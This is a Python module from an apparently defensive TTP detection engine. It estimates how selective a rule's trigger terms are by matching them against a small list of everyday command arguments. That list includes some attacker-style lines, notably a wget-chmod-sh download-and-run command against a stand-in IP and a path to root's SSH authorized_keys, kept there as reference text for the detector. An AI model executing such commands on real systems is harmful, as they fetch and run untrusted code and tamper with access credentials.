"""Which leaf terms can make a rule fire: of a rule's triggers at least one is true whenever the rule is.

A rule is looked at only when one of its triggers was seen, so the fewer texts show them, the better.
"""

from __future__ import annotations

import re  # reads the patterns of rules here, never attacker text
from typing import TYPE_CHECKING, NamedTuple

from decnet.ttp.condition import Leaf
from decnet.ttp.exec_term import ExecTerm
from decnet.ttp.match import find_pattern
from decnet.ttp.remembered import Remembered

if TYPE_CHECKING:
    from decnet.ttp.condition import AnyLeaf, Condition

_LITERAL_RUN = re.compile(r"(?:[A-Za-z0-9_/ =:@-]|\\[./-])+")
_UNSEEN = 0.04  # the most that a pattern can expect which none of the everyday texts shows
_WHOLE_FIELD = 0.01
_DECIDED = 0.02  # an exec term is decided before rules are looked at, so it wakes a rule only when true


EVERYDAY = (
    b"-la",
    b"-a",
    b"-rf /tmp/x",
    b"+x x.sh",
    b"777 /var/run/bin.x86",
    b"/tmp",
    b"/etc/hosts",
    b"/root/.ssh/authorized_keys",
    b"http://203.0.113.7/a/bins.sh",
    b"-O - http://203.0.113.7:8080/x",
    b"-c cd /tmp; ls",
    b"-n 1 -s",
    b"hello world",
    b"root",
    b"-f 2",
    b"x",
    b"-xzf backup.tar.gz -C /opt",
    b"-i eth0 port 22",
    b"s/a/b/g file.txt",
    b"{print $1}",
    b"-E name|model",
    b"ssh.service",
    b"-9 1234",
    b"user@198.51.100.3",
    b"wget http://203.0.113.7/x.sh; chmod 777 x.sh; sh x.sh",
    b"cat /proc/cpuinfo | grep name | wc -l",
    b"./x.sh",
    b"/usr/bin/env",
)
"""Texts as commands and their arguments often are: a pattern that is found in many of them tells little."""


class Triggers(NamedTuple):
    """Numbers of leaves, and how often we expect to see one of them: an order of preference, no probability."""

    share: float
    numbers: frozenset[int]


def triggers_of(condition: Condition) -> Triggers | None:
    """The triggers of ``condition``, or None where it can be true with every positive term false."""
    if condition.leaf is not None:
        return Triggers(expected_share(condition.leaf), frozenset({condition.number}))
    if condition.operator == "not":
        return None
    parts = [triggers_of(part) for part in condition.parts]
    known = [part for part in parts if part is not None]
    if condition.operator == "all":
        return min(known, key=lambda part: part.share, default=None)
    if len(known) < len(parts):
        return None
    return Triggers(sum(part.share for part in known), frozenset().union(*(part.numbers for part in known)))


def expected_share(leaf: AnyLeaf) -> float:
    """A guess at how common ``leaf`` is: the longer its literal text, the rarer."""
    if isinstance(leaf, ExecTerm):
        return _DECIDED
    if leaf.operator in {"equals", "in_set"}:
        return _WHOLE_FIELD
    return pattern_share(leaf.values[0]) if leaf.operator == "pattern" else 1 / (1 + len(leaf.values[0]))


@Remembered
def pattern_share(pattern: str) -> float:
    """The same for an RE2 pattern: its share of the everyday texts, else a guess by its literal text."""
    find = find_pattern(pattern)
    found = sum(find(text) is not None for text in EVERYDAY)
    if found:
        return found / len(EVERYDAY)
    return _UNSEEN / (1 + max(map(len, _LITERAL_RUN.findall(pattern)), default=0))


def is_whole_field(leaf: AnyLeaf) -> bool:
    """Whether ``leaf`` compares a field with whole texts."""
    return isinstance(leaf, Leaf) and leaf.operator in {"equals", "in_set"}
